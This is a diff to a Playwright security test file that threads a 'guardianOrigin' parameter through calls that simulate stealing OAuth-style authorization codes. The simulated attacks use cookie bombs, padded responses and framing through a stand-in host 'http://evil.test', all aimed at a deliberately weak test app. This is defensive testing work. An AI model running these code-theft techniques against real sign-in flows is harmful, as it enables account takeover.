@@ -85,12 +85,12 @@ const ways: readonly Way[] = [
 async function attack(
   page: Page,
   { container, prepare }: Way,
-  { asOrigin }: WeakApp,
+  { asOrigin, guardianOrigin }: WeakApp,
   attacker: AttackerSite,
 ): Promise<Loot> {
   await prepare?.(page)
   const through = `http://evil.test:${attacker.port}/frame?src=`
-  return raidInPage(page, { container, asOrigin, through })
+  return raidInPage(page, { container, asOrigin, guardianOrigin, through })
 }
 
 for (const way of ways) {
@@ -152,7 +152,11 @@ test('known to be open in this topology: a cookie bomb on the callback shows the
   const target = await startWeak({ protections: { csp: false } })
   await signIn(page, 'alice', target.origin)
   await throwCookieBomb(page)
-  const { codes } = await raidInPage(page, { container: 'embed', asOrigin: target.asOrigin })
+  const { codes } = await raidInPage(page, {
+    container: 'embed',
+    asOrigin: target.asOrigin,
+    guardianOrigin: target.guardianOrigin,
+  })
   expect(codes).toHaveLength(1)
 })
 
@@ -165,8 +169,13 @@ test('known to be open in this topology: a response too long for the server show
   await signIn(page, 'alice', target.origin)
   // One cookie, so that the limit of the app's server is reached before that of the authorization server.
   await throwCookieBomb(page, 1)
-  const { asOrigin } = target
-  const { codes } = await raidInPage(page, { container: 'embed', asOrigin, padding: 12_500 })
+  const { asOrigin, guardianOrigin } = target
+  const { codes } = await raidInPage(page, {
+    container: 'embed',
+    asOrigin,
+    guardianOrigin,
+    padding: 12_500,
+  })
   expect(codes).toHaveLength(1)
 })
 
@@ -180,7 +189,7 @@ for (const container of ['object', 'embed', 'frame', 'popup'] as const) {
     await signIn(page, 'alice', target.origin)
     await throwCookieBomb(page)
     await unregister(page)
-    const { asOrigin } = target
-    expect((await raidInPage(page, { container, asOrigin })).found).toEqual([])
+    const { asOrigin, guardianOrigin } = target
+    expect((await raidInPage(page, { container, asOrigin, guardianOrigin })).found).toEqual([])
   })
 }
